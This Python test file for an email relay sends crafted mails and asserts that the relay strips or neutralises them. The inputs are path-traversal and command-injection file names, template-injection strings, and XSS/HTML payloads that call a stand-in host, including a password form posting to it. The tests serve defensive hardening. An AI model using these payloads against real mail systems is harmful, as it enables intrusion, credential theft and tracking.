"""Mails built to do harm, over SMTP: names that would be paths, text that would be a template, HTML that would act."""

from __future__ import annotations

import html.parser
import re
from collections.abc import Callable
from email.message import EmailMessage
from pathlib import Path
from urllib.parse import quote

from relay import wording
from tests.harness import NETWORK, Received, Relay, Sink, until, write
from tests.mail.test_rich import ATTACKS
from tests.test_workflow import ANNA, INTAKE, IVAN, SERGEI

# ── names of files ─────────────────────────────────────────────────────────────────────────────────────────

ROOT = Path("/")
STORED = re.compile(
    r"relay\.db(?:-wal|-shm|-journal)?|housekeeping\.lock|spool/(?:tmp|incoming|kept|corrupt)|spool/kept/\d{4}-\d\d"
    r"|spool/(?:incoming|kept/\d{4}-\d\d|corrupt)/[0-9A-HJKMNP-TV-Z]{15}\.(?:eml|txt)|spool|blobs|blobs/[0-9a-f]{2}"
    r"|blobs/([0-9a-f]{2})/\1[0-9a-f]{62}"
)


def names(planted: Path) -> list[str]:
    """What somebody might call a file who wants it to be elsewhere; some would lead to `planted`."""
    return [
        "../../etc/cron.d/x", "..\\..\\planted\\x", f"{planted}/absolute", f"{'../' * 12}{planted}/relative", "../relay.toml",
        "..", "../../relay.toml", ".", "/", "", " ", "~/.ssh/authorized_keys", "C:\\Windows\\x.txt", "\\\\server\\share\\x",
        "\0", "relay.db", "file:///etc/passwd", "a\0b.txt", f"{planted}/nul\0.txt", "x" * 5000, "я" * 3000 + ".pdf", "con",
        "CON.txt", "nul", "com1.log", "a:b.txt", "a\r\nX-Evil: 1", "a\nb.txt", "$(touch x)", "`touch x`", "| touch x", "-rf",
        "*", "a;b.txt", "%2e%2e%2fx", "..%2f..%2fx", "....//....//x", "．．／x", "..∕x", "\u202egpj.txt", "a\u2028b", "\ufffd",
    ]  # fmt: skip


def with_file(text: str, name: str, content: bytes) -> bytes:
    """A raw mail with a file whose name is written every way there is."""
    encoded = quote(name, safe="")
    quoted = re.sub(r"[\r\n\0]", "_", name).replace("\\", "\\\\").replace('"', '\\"')[:900]
    return "\r\n".join(
        [
            f"From: Anna <{ANNA}>",
            f"To: {INTAKE}",
            f"Subject: {text}",
            f"Message-ID: <{abs(hash(name))}@client.example>",
            "MIME-Version: 1.0",
            'Content-Type: multipart/mixed; boundary="b"',
            "",
            "--b",
            "Content-Type: text/plain",
            "",
            f"{text}",
            "--b",
            "Content-Type: application/octet-stream;",
            *(f" name*{at}*={'utf-8' + chr(39) * 2 if not at else ''}{part};" for at, part in enumerate(_pieces(encoded))),
            ' x="y"',
            "Content-Disposition: attachment;",
            f' filename="{quoted}"',
            f"Content-Location: {quote(name[:500])}",
            "",
            content.decode(),
            "--b--",
            "",
        ]
    ).encode()


def _pieces(text: str) -> list[str]:
    return [text[at : at + 60] for at in range(0, min(len(text), 9000), 60)] or [""]


def test_a_files_name_never_becomes_a_path(make_relay: Callable[..., Relay], sink: Sink, tmp_path: Path) -> None:
    planted = tmp_path / "planted"
    planted.mkdir()
    relay = make_relay().start()
    before = {path for path in tmp_path.rglob("*") if not path.is_relative_to(relay.folder / "data")}
    wanted = names(planted)
    for number, name in enumerate(wanted):
        code, answer = relay.send(with_file(f"File {number}.", name, b"content %d" % number), ANNA, INTAKE)
        assert code == 250, (name, answer)
    until(lambda: len(sink.to(IVAN)) == len(wanted), "every letter")
    assert {path for path in tmp_path.rglob("*") if not path.is_relative_to(relay.folder / "data")} == before
    assert list(planted.iterdir()) == [] and not (ROOT / "etc" / "cron.d" / "x").exists()
    data = relay.folder / "data"
    assert [path for path in data.rglob("*") if not STORED.fullmatch(path.relative_to(data).as_posix())] == []
    contents = {path.read_bytes() for path in (data / "blobs").rglob("*") if path.is_file()}
    assert contents == {b"content %d" % number for number in range(len(wanted))}
    for letter in sink.to(IVAN):
        ((name, content),) = letter.files.items()
        assert content in contents
        assert name.strip(". ") and len(name) <= 151 and not re.search(r'[/\\\x00-\x1f:*?"<>|\u202a-\u202e\u2028]', name), name
        assert not re.fullmatch(r"(?i)(?:con|nul|com1)(?:\..*)?", name)
        assert letter.message["X-Evil"] is None


# ── text that would be a template ──────────────────────────────────────────────────────────────────────────

SYNTAXES = [
    "{{ 7 * 191 }}", "{% set x = 7 * 191 %}{{ x }}", "{{ ''.__class__.__mro__ }}", "{# gone #}", "{{ config }}", "${7*191}",
    "#{7*191}", "<%= 7 * 191 %>", "{0.__class__}", "{number}", "%(number)s", "%s %d %n", "%(who)s %(", "{{", "{%", "%}",
    "\\N{DIGIT ONE}", "$number", "{!r}", "{{ _('Files:') }}", "{% include 'base.txt' %}", "{% extends 'base.html' %}",
    "&lt;b&gt;", "|safe", "~~~{{1}}",
]  # fmt: skip


def test_what_a_mail_says_is_never_a_template(make_relay: Callable[..., Relay], sink: Sink) -> None:
    """In the subject, the text, a person's name, a file's name, a fact and a number."""
    relay = make_relay(network=NETWORK.replace('to = "north"\n', 'to = "north"\nfields = ["Equipment"]\n', 1)).start()
    for syntax in SYNTAXES:
        _said_and_answered(relay, sink, syntax)
    for letter in sink.received:
        said = "\n".join([letter.text, letter.html, str(letter.message["Subject"]), str(letter.message["From"]), *letter.files])
        assert "1337" not in said and "<class" not in said, said


def _said_and_answered(relay: Relay, sink: Sink, syntax: str) -> None:
    quoted = syntax.replace("\\", "\\\\").replace('"', '\\"')
    mail = write(
        f'"Anna {quoted}" <{ANNA}>', INTAKE, f"Equipment: Pump {syntax}\n\nIt says {syntax} here.", f"About {syntax} now"
    )
    mail.add_attachment(b"plan", maintype="application", subtype="octet-stream", filename=f"plan {syntax} x.dat")
    code, answer = relay.send(mail, ANNA, INTAKE)
    assert code == 250, answer
    until(lambda: bool(_about(sink, syntax)), "the letter that brings it")
    letter = _about(sink, syntax)[0]
    assert f"It says {syntax} here." in letter.text and letter.text.count(f"Pump {syntax}") == 2, letter.text
    assert f"It says {syntax} here." in " ".join(visible(letter.html).split())
    assert str(letter.message["Subject"]).endswith(f"About {syntax} now")
    (name,) = letter.files
    assert re.sub(r'[<>:"|?*/\\]', "_", f"plan {syntax} x.dat").endswith(re.sub(r"[/\\]", "_", name))
    relay.send(write(f"Ivan <{IVAN}>", letter.thread, f"#ref {syntax}\n#accept\n\nOn it.", answering=letter), IVAN, letter.thread)
    tag = str(letter.message["Subject"]).partition("]")[0]
    until(lambda: any("On it." in each.text for each in sink.to(ANNA) if tag in str(each.message["Subject"])), "the answer")


def _about(sink: Sink, syntax: str) -> list[Received]:
    """Ivan's letters of that chain."""
    return [letter for letter in sink.to(IVAN) if str(letter.message["Subject"]).endswith(f"About {syntax} now")]


def visible(source: str) -> str:
    """What a reader sees of a page."""
    seen: list[str] = []

    class Reader(html.parser.HTMLParser):
        def handle_data(self, data: str) -> None:
            seen.append(data)

    Reader(convert_charrefs=True).feed(source)
    return "".join(seen)


# ── HTML that would act, or call home ──────────────────────────────────────────────────────────────────────

REMOTE = "evil.example"
HARM = [
    *ATTACKS,
    f"<script src=https://{REMOTE}/x.js></script><noscript><img src=https://{REMOTE}/n></noscript>",
    f"<img src=x onerror=\"fetch('https://{REMOTE}')\"><b onclick=alert(1) onmouseover=alert(1)>b</b>",
    f"<a href=\"java\tscript:alert('{REMOTE}')\">a</a><a href='jAvAsCrIpT:x'>b</a><a href='data:text/html;base64,PHg+'>c</a>",
    f"<p style=\"background:url('https://{REMOTE}/p')\">p</p><p style=\"background-image:u\\72l(//{REMOTE}/q)\">q</p>",
    f"<style>@import '//{REMOTE}/s.css'; td {{ background: url(//{REMOTE}/t) }}</style><link rel=prefetch href=//{REMOTE}/l>",
    f"<meta http-equiv=refresh content='0;url=//{REMOTE}'><base href=//{REMOTE}/><link rel=icon href=//{REMOTE}/i>",
    f"<form action=//{REMOTE}/f><input name=password type=password><button formaction=//{REMOTE}/g>Log in</button></form>",
    f"<svg><use href=//{REMOTE}/u#x /><image xlink:href=//{REMOTE}/i /><animate attributeName=href to=javascript:x /></svg>",
    f"<object data=//{REMOTE}/o></object><embed src=//{REMOTE}/e><iframe srcdoc='<script>1</script>'></iframe>",
    f"<img srcset='//{REMOTE}/1 1x, //{REMOTE}/2 2x' sizes=1px><picture><source srcset=//{REMOTE}/3></picture>",
    f"<video poster=//{REMOTE}/4></video><audio src=//{REMOTE}/a></audio><track src=//{REMOTE}/t><frame src=//{REMOTE}/f>",
    "<div style='position:fixed;inset:0;z-index:9999;background:#fff;opacity:.99'><a href=https://bank.example>Log in</a></div>",
    "<div style='position:absolute;top:-9999px;left:0;margin-top:-5000px;transform:scale(99)'>over</div>",
    f"<xmp></xmp><img src=//{REMOTE}/x onerror=1><listing></listing><textarea></textarea><title></title><script>1</script>",
    f"<math><mi><mglyph><svg><mtext><style><a title='</style><img src=//{REMOTE}/m onerror=1>'>",
    f"<svg></p><style><a id='</style><img src=//{REMOTE}/v onerror=alert(1)>'>",
    f"<table background=//{REMOTE}/b><td background=//{REMOTE}/c><body background=//{REMOTE}/d><bgsound src=//{REMOTE}/e>",
    f"<!--[if mso]><img src=//{REMOTE}/o><![endif]--><?xml-stylesheet href=//{REMOTE}/x?><!DOCTYPE x SYSTEM '//{REMOTE}/y'>",
    f"<a ping=//{REMOTE}/p href=https://fine.example/>fine</a><q cite=//{REMOTE}/c>q</q><ins cite=//{REMOTE}/d>i</ins>",
    f"<img src=https://{REMOTE}/pixel.gif width=1 height=1><img src=//{REMOTE}/r.png><input type=image src=//{REMOTE}/i>",
]  # fmt: skip
ACTIVE = {
    "script", "iframe", "object", "embed", "applet", "form", "input", "button", "select", "textarea", "svg", "math", "base",
    "link", "audio", "video", "source", "picture", "xmp", "plaintext", "listing", "noscript", "template", "frame", "frameset",
    "use", "style", "animate", "image", "portal", "dialog", "details", "marquee", "layer", "isindex", "keygen", "bgsound",
}  # fmt: skip


OURS = frozenset(re.findall(r"<!--(.*?)-->", (wording.builtin() / "base.html").read_text("utf-8")))


class Page(html.parser.HTMLParser):
    """Fails the test at whatever acts or calls home."""

    def __init__(self, letter: Received) -> None:
        super().__init__(convert_charrefs=True)
        self.source, self.cells = letter.html, 0
        head, end, body = self.source.partition("</head>")
        assert head.count("<style>") == 1
        self.feed(re.sub(r"<style>[^<]*</style>", "", head) + end + body)  # ours, and nobody's words in it
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag not in ACTIVE, (tag, self.source)
        self.cells += tag == "td"
        for name, value in attrs:
            self._look(tag, name, re.sub(r"[\s\x00-\x1f]|/\*.*?\*/|\\", "", value or "").lower())

    def _look(self, tag: str, name: str, value: str) -> None:
        where = (tag, name, value, self.source)
        assert REMOTE not in value, where
        assert not name.startswith("on") and name not in ("srcset", "background", "ping", "action", "formaction", "srcdoc"), where
        assert tag != "meta" or name != "http-equiv" or value == "content-type", where
        if name == "href":
            assert re.match(r"https?://|mailto:|tel:", value), where
        elif name == "src":
            assert value.startswith("cid:"), where
        elif name == "style":
            assert not re.search(
                r"url\(|expression|position|behavior|@import|javascript|transform|z-index|-moz-binding", value
            ), where
        else:
            assert not re.search(r"javascript:|vbscript:|data:|https?:|^//", value) or tag == "html", where

    def handle_comment(self, data: str) -> None:
        assert "<" not in data or data in OURS, self.source

    def handle_pi(self, data: str) -> None:
        raise AssertionError(self.source)


def test_nothing_in_a_letter_acts_or_calls_home(relay: Relay, sink: Sink) -> None:
    """Each attack stands in a table, so that there is HTML to keep; it goes to a colleague's contact, a next party, a history."""
    relay.send(write(f"Anna <{ANNA}>", INTAKE, "The pump leaks."), ANNA, INTAKE)
    thread = sink.wait(ANNA).thread
    for number, harm in enumerate(HARM):
        code, answer = relay.send(_page(thread, number, harm), ANNA, thread)
        assert code == 250, answer
    ivans = sink.wait(IVAN)
    until(lambda: len(sink.to(IVAN)) == len(HARM) + 1, f"{len(HARM)} letters")
    relay.send(write(f"Ivan <{IVAN}>", ivans.thread, "#pass fix"), IVAN, ivans.thread)
    relay.send(write(f"Anna <{ANNA}>", thread, "#history"), ANNA, thread)
    sink.wait(SERGEI)
    until(lambda: any("Seal ring 0" in letter.text for letter in sink.to(ANNA)), "the history")
    pages = [Page(letter) for letter in sink.received]
    with_table = [page for page in pages if "Seal ring" in page.source and page.cells > 2]
    assert len(with_table) > len(HARM) / 2, "tables arrive as tables"


def _page(thread: str, number: int, harm: str) -> EmailMessage:
    mail = write(f"Anna <{ANNA}>", thread, "")
    rows = f"<tr><th>Part</th><th>Qty</th></tr><tr><td>Seal ring {number}</td><td>2</td></tr>"
    mail.set_content(
        f"<html><body onload=x><p>We <b>need</b>:</p><table>{rows}</table><div>{harm}</div></body></html>", subtype="html"
    )
    return mail
